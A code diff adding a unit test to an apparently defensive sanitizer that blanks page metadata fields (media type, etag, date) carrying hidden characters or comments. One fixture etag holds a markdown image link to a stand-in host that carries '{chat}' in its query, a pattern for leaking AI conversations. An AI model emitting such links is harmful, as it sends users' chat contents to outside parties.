@@ -140,6 +140,20 @@ async def test_addresses_keep_their_meaning() -> None:
     assert (after.url, after.favicon, after.image) == ("https://page.example/a%E2%80%8Bb", "", "")
 
 
+async def test_what_means_nothing_once_it_is_changed_goes_whole() -> None:
+    page = Page(
+        url="https://page.example/",
+        media_type="text/\u200bplain",
+        etag='"1 ![a](https://x.example/?d={chat})"',
+        last_modified="Sun, <!-- c --> 22 Nov 2026 10:00:00 GMT",
+    )
+    given = await verdict(page)
+    assert isinstance(given, Rewrite)
+    after = page.with_parts(given.parts or ())
+    assert (after.media_type, after.etag, after.last_modified) == ("", "", "")
+    assert await verdict(Page(url="https://page.example/", etag='W/"a-{1}"')) == Allow()
+
+
 async def test_a_text_of_nothing_but_hidden_words_is_empty() -> None:
     assert await body_after("<!-- words -->") == ""
 
